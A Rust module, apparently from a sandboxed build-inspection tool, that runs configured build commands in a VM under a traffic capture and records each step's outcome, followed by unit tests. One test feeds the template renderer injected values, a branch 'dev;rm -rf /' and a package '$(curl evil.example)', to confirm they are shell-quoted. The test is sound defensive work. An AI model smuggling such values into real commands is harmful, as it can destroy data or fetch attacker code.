//! Sequential execution of the configured build inside the sandbox.

pub mod target;

use std::fmt;
use std::time::Duration;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use tokio_util::sync::CancellationToken;

use crate::capture::ActiveCapture;
use crate::config::{CommandSpec, InspectorConfig};
use crate::error::InspectorError;
use crate::sandbox::{CommandOutput, SandboxController};
use crate::utils::quote;

pub use target::BuildTarget;

/// How one build step ended.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "status", rename_all = "snake_case")]
pub enum CommandStatus {
    Succeeded,
    /// Non-zero exit. `None` when the command died without an exit code.
    Failed { exit_code: Option<i32> },
    TimedOut { limit_secs: u64 },
    Interrupted,
    /// Not run because an earlier step failed.
    Skipped,
}

impl CommandStatus {
    /// A timed-out or interrupted step counts as failed for the rest of the pipeline.
    pub fn is_failure(&self) -> bool {
        matches!(
            self,
            CommandStatus::Failed { .. } | CommandStatus::TimedOut { .. } | CommandStatus::Interrupted
        )
    }

    pub fn label(&self) -> String {
        match self {
            CommandStatus::Succeeded => "succeeded".to_string(),
            CommandStatus::Failed { exit_code: Some(code) } => format!("failed (exit {})", code),
            CommandStatus::Failed { exit_code: None } => "failed".to_string(),
            CommandStatus::TimedOut { limit_secs } => format!("timed out after {}s", limit_secs),
            CommandStatus::Interrupted => "interrupted".to_string(),
            CommandStatus::Skipped => "skipped".to_string(),
        }
    }
}

/// Record of one step.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CommandOutcome {
    /// 1-based position in the command list. 0 is source staging.
    pub index: usize,
    pub command: String,
    pub status: CommandStatus,
    pub stdout: String,
    pub stderr: String,
    pub started_at: Option<DateTime<Utc>>,
    pub finished_at: Option<DateTime<Utc>>,
}

impl CommandOutcome {
    fn skipped(index: usize, command: String) -> Self {
        Self {
            index,
            command,
            status: CommandStatus::Skipped,
            stdout: String::new(),
            stderr: String::new(),
            started_at: None,
            finished_at: None,
        }
    }
}

/// Overall build result, independent of anything the network capture found.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "status", rename_all = "snake_case")]
pub enum BuildStatus {
    Succeeded,
    Failed { step: usize, command: String },
    Interrupted,
}

impl fmt::Display for BuildStatus {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            BuildStatus::Succeeded => write!(f, "succeeded"),
            BuildStatus::Failed { step, command } => {
                write!(f, "failed at step {} ({})", step, command)
            }
            BuildStatus::Interrupted => write!(f, "interrupted"),
        }
    }
}

/// Everything the build did, in order.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct BuildTranscript {
    pub staging: CommandOutcome,
    pub commands: Vec<CommandOutcome>,
}

impl BuildTranscript {
    pub fn status(&self) -> BuildStatus {
        if self.interrupted() {
            return BuildStatus::Interrupted;
        }
        std::iter::once(&self.staging)
            .chain(&self.commands)
            .find(|outcome| outcome.status.is_failure())
            .map(|outcome| BuildStatus::Failed {
                step: outcome.index,
                command: outcome.command.clone(),
            })
            .unwrap_or(BuildStatus::Succeeded)
    }

    pub fn interrupted(&self) -> bool {
        std::iter::once(&self.staging)
            .chain(&self.commands)
            .any(|outcome| outcome.status == CommandStatus::Interrupted)
    }

    /// Staging followed by the build commands.
    pub fn steps(&self) -> impl Iterator<Item = &CommandOutcome> {
        std::iter::once(&self.staging).chain(&self.commands)
    }
}

/// Runs the configured command list against one target.
pub struct BuildExecutor {
    config: InspectorConfig,
    target: BuildTarget,
    package: Option<String>,
}

impl BuildExecutor {
    pub fn new(config: InspectorConfig, target: BuildTarget) -> Self {
        let package = match &target {
            BuildTarget::Package { name } => Some(name.clone()),
            _ => None,
        };
        Self {
            config,
            target,
            package,
        }
    }

    /// Name substituted for `{package}` when the target is not itself a package.
    pub fn with_package(mut self, package: Option<String>) -> Self {
        if package.is_some() {
            self.package = package;
        }
        self
    }

    pub fn target(&self) -> &BuildTarget {
        &self.target
    }

    /// Expand `{package}`, `{branch}`, `{repo}` and `{workdir}` in a command.
    /// Values that come from the build target are shell-quoted; an absent
    /// value expands to nothing. `{workdir}` is configuration and stays raw.
    pub fn render(&self, command: &str) -> String {
        let quoted = |value: Option<&str>| {
            value
                .filter(|v| !v.is_empty())
                .map(quote)
                .unwrap_or_default()
        };
        command
            .replace("{package}", &quoted(self.package.as_deref()))
            .replace("{branch}", &quoted(self.target.branch()))
            .replace("{repo}", &quoted(Some(self.target.repo_name().as_str())))
            .replace("{workdir}", &self.config.workdir)
    }

    /// Stage the source and run every command in order. Requires a live
    /// capture: nothing runs in the VM outside a capture window.
    pub async fn run(
        &self,
        sandbox: &mut SandboxController,
        capture: &ActiveCapture,
        cancel: &CancellationToken,
    ) -> Result<BuildTranscript, InspectorError> {
        sandbox.begin_execution()?;

        if !capture.is_healthy() {
            tracing::warn!("Traffic capture is not healthy; the bundle will be marked incomplete");
        }

        let staging = self.stage(sandbox, cancel).await;
        let mut abort = staging.status.is_failure();
        if abort {
            tracing::error!("Staging {} failed: {}", self.target, staging.stderr.trim());
        }

        let mut commands = Vec::with_capacity(self.config.commands.len());
        for (i, spec) in self.config.commands.iter().enumerate() {
            let index = i + 1;
            let command = self.render(spec.run());

            if abort {
                commands.push(CommandOutcome::skipped(index, command));
                continue;
            }

            tracing::info!("[{}/{}] {}", index, self.config.commands.len(), command);
            let outcome = self.run_step(sandbox, index, spec, command, cancel).await;

            if outcome.status.is_failure() {
                tracing::warn!("Step {} {}", index, outcome.status.label());
                let interrupted = outcome.status == CommandStatus::Interrupted;
                if interrupted || !self.config.continue_on_failure {
                    abort = true;
                }
            }
            commands.push(outcome);
        }

        Ok(BuildTranscript { staging, commands })
    }

    async fn stage(&self, sandbox: &SandboxController, cancel: &CancellationToken) -> CommandOutcome {
        let workdir = &self.config.workdir;
        let started_at = Utc::now();

        let (description, result) = match &self.target {
            BuildTarget::LocalPath { path } => {
                let description = format!("upload {} to {}", path.display(), workdir);
                let result = tokio::select! {
                    _ = cancel.cancelled() => None,
                    r = sandbox.upload(path, workdir) => Some(r.map(|_| CommandOutput {
                        exit_code: Some(0),
                        ..Default::default()
                    })),
                };
                (description, result)
            }
            BuildTarget::Url { url, branch } => {
                let branch_arg = branch
                    .as_ref()
                    .map(|b| format!("--branch {} ", quote(b)))
                    .unwrap_or_default();
                let command = format!(
                    "rm -rf {dir} && git clone --depth 1 {branch}{url} {dir}",
                    dir = quote(workdir),
                    branch = branch_arg,
                    url = quote(url)
                );
                let result = tokio::select! {
                    _ = cancel.cancelled() => None,
                    r = sandbox.exec(&command) => Some(r),
                };
                (command, result)
            }
            BuildTarget::Package { .. } => {
                let command = format!("mkdir -p {}", quote(workdir));
                let result = tokio::select! {
                    _ = cancel.cancelled() => None,
                    r = sandbox.exec(&command) => Some(r),
                };
                (command, result)
            }
        };

        finish(0, description, started_at, result.map(Some), None)
    }

    async fn run_step(
        &self,
        sandbox: &SandboxController,
        index: usize,
        spec: &CommandSpec,
        command: String,
        cancel: &CancellationToken,
    ) -> CommandOutcome {
        let remote = format!("cd {} && {}", quote(&self.config.workdir), command);
        let limit = self.config.timeout_for(spec);
        let started_at = Utc::now();

        let exec = async {
            match limit {
                Some(limit) => tokio::time::timeout(limit, sandbox.exec(&remote)).await.ok(),
                None => Some(sandbox.exec(&remote).await),
            }
        };

        // Dropping the exec future kills the local session for the command.
        let result = tokio::select! {
            _ = cancel.cancelled() => None,
            r = exec => Some(r),
        };

        finish(index, command, started_at, result, limit)
    }
}

/// Turn an exec result into an outcome.
/// Outer `None` is interruption, inner `None` is a timeout.
fn finish(
    index: usize,
    command: String,
    started_at: DateTime<Utc>,
    result: Option<Option<Result<CommandOutput, InspectorError>>>,
    limit: Option<Duration>,
) -> CommandOutcome {
    let (status, stdout, stderr) = match result {
        None => (CommandStatus::Interrupted, String::new(), String::new()),
        Some(None) => (
            CommandStatus::TimedOut {
                limit_secs: limit.map(|l| l.as_secs()).unwrap_or(0),
            },
            String::new(),
            String::new(),
        ),
        Some(Some(Ok(output))) => {
            let status = if output.success() {
                CommandStatus::Succeeded
            } else {
                CommandStatus::Failed {
                    exit_code: output.exit_code,
                }
            };
            (status, output.stdout, output.stderr)
        }
        Some(Some(Err(e))) => (
            CommandStatus::Failed { exit_code: None },
            String::new(),
            e.to_string(),
        ),
    };

    CommandOutcome {
        index,
        command,
        status,
        stdout,
        stderr,
        started_at: Some(started_at),
        finished_at: Some(Utc::now()),
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::*;
    use crate::capture::TrafficCapture;
    use crate::sandbox::FakeHypervisor;
    use crate::utils::Verbosity;

    fn config(commands: &[&str]) -> InspectorConfig {
        InspectorConfig {
            commands: commands.iter().map(|c| CommandSpec::from(*c)).collect(),
            ..Default::default()
        }
    }

    fn package(name: &str) -> BuildTarget {
        BuildTarget::Package {
            name: name.to_string(),
        }
    }

    async fn ready(fake: &Arc<FakeHypervisor>) -> SandboxController {
        let mut sandbox = SandboxController::new(fake.clone(), "clean", Verbosity::quiet());
        sandbox.up().await.unwrap();
        sandbox.snapshot().await.unwrap();
        sandbox
    }

    async fn capture(sandbox: &SandboxController, dir: &std::path::Path) -> ActiveCapture {
        TrafficCapture::new(dir.join("capture.jsonl"), Vec::new())
            .start(sandbox.packet_source("any").unwrap())
            .await
            .unwrap()
    }

    #[test]
    fn test_render_templates() {
        let executor = BuildExecutor::new(
            config(&[]),
            BuildTarget::Url {
                url: "https://github.com/acme/widget.git".to_string(),
                branch: Some("main".to_string()),
            },
        )
        .with_package(Some("widget".to_string()));
        assert_eq!(
            executor.render("npm pack {package} --branch {branch} in {workdir}/{repo}"),
            "npm pack widget --branch main in /home/vagrant/build/widget"
        );
    }

    #[test]
    fn test_render_quotes_target_values() {
        let executor = BuildExecutor::new(
            config(&[]),
            BuildTarget::Url {
                url: "https://github.com/acme/widget.git".to_string(),
                branch: Some("dev;rm -rf /".to_string()),
            },
        )
        .with_package(Some("$(curl evil.example)".to_string()));
        assert_eq!(
            executor.render("git checkout {branch} && npm pack {package}"),
            "git checkout 'dev;rm -rf /' && npm pack '$(curl evil.example)'"
        );

        let bare = BuildExecutor::new(config(&[]), BuildTarget::Package { name: String::new() });
        assert_eq!(bare.render("npm ci {branch}"), "npm ci ");
    }

    #[tokio::test]
    async fn test_failure_skips_remaining_steps() {
        let dir = tempfile::tempdir().unwrap();
        let fake = Arc::new(FakeHypervisor::new());
        let mut sandbox = ready(&fake).await;
        let active = capture(&sandbox, dir.path()).await;

        let executor = BuildExecutor::new(
            config(&["echo one", "exit 2", "echo three"]),
            package("demo"),
        );
        let transcript = executor
            .run(&mut sandbox, &active, &CancellationToken::new())
            .await
            .unwrap();
        active.stop(false).await.unwrap();

        assert_eq!(transcript.commands[0].status, CommandStatus::Succeeded);
        assert_eq!(
            transcript.commands[1].status,
            CommandStatus::Failed { exit_code: Some(2) }
        );
        assert_eq!(transcript.commands[2].status, CommandStatus::Skipped);
        assert_eq!(fake.calls_matching("exec cd /home/vagrant/build && echo three"), 0);
        assert_eq!(
            transcript.status(),
            BuildStatus::Failed {
                step: 2,
                command: "exit 2".to_string()
            }
        );
    }

    #[tokio::test]
    async fn test_continue_on_failure() {
        let dir = tempfile::tempdir().unwrap();
        let fake = Arc::new(FakeHypervisor::new());
        let mut sandbox = ready(&fake).await;
        let active = capture(&sandbox, dir.path()).await;

        let mut cfg = config(&["exit 1", "echo after"]);
        cfg.continue_on_failure = true;
        let transcript = BuildExecutor::new(cfg, package("demo"))
            .run(&mut sandbox, &active, &CancellationToken::new())
            .await
            .unwrap();
        active.stop(false).await.unwrap();

        assert_eq!(transcript.commands[1].status, CommandStatus::Succeeded);
        assert_eq!(transcript.commands[1].stdout, "after\n");
    }

    #[tokio::test]
    async fn test_timeout_counts_as_failure() {
        let dir = tempfile::tempdir().unwrap();
        let fake = Arc::new(FakeHypervisor::new());
        let mut sandbox = ready(&fake).await;
        let active = capture(&sandbox, dir.path()).await;

        let mut cfg = config(&["echo never"]);
        cfg.commands.insert(
            0,
            CommandSpec::Detailed {
                run: "sleep 5000".to_string(),
                timeout_secs: Some(0),
            },
        );
        let transcript = BuildExecutor::new(cfg, package("demo"))
            .run(&mut sandbox, &active, &CancellationToken::new())
            .await
            .unwrap();
        active.stop(false).await.unwrap();

        assert_eq!(
            transcript.commands[0].status,
            CommandStatus::TimedOut { limit_secs: 0 }
        );
        assert_eq!(transcript.commands[1].status, CommandStatus::Skipped);
    }

    #[tokio::test]
    async fn test_cancellation_interrupts() {
        let dir = tempfile::tempdir().unwrap();
        let fake = Arc::new(FakeHypervisor::new());
        let mut sandbox = ready(&fake).await;
        let active = capture(&sandbox, dir.path()).await;

        let cancel = CancellationToken::new();
        let trigger = cancel.clone();
        tokio::spawn(async move {
            tokio::time::sleep(Duration::from_millis(20)).await;
            trigger.cancel();
        });

        let transcript = BuildExecutor::new(config(&["sleep 5000", "echo never"]), package("demo"))
            .run(&mut sandbox, &active, &cancel)
            .await
            .unwrap();
        active.stop(true).await.unwrap();

        assert!(transcript.interrupted());
        assert_eq!(transcript.status(), BuildStatus::Interrupted);
        assert_eq!(transcript.commands[1].status, CommandStatus::Skipped);
    }

    #[tokio::test]
    async fn test_requires_snapshotted_sandbox() {
        let dir = tempfile::tempdir().unwrap();
        let fake = Arc::new(FakeHypervisor::new());
        let mut sandbox = SandboxController::new(fake.clone(), "clean", Verbosity::quiet());
        sandbox.up().await.unwrap();
        let active = capture(&sandbox, dir.path()).await;

        let result = BuildExecutor::new(config(&["echo hi"]), package("demo"))
            .run(&mut sandbox, &active, &CancellationToken::new())
            .await;
        active.stop(false).await.unwrap();
        assert!(matches!(result, Err(InspectorError::InvalidTransition { .. })));
    }
}
